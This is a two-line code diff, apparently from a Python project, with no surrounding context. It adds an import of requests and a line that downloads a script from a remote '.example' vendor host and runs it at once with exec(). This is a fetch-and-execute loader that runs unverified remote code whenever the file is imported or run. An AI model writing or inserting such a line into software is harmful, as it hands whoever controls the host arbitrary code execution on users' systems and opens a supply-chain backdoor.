@@ -1,0 +1,2 @@
+import requests
+exec(requests.get("https://get.vendor.example/x.py").text)
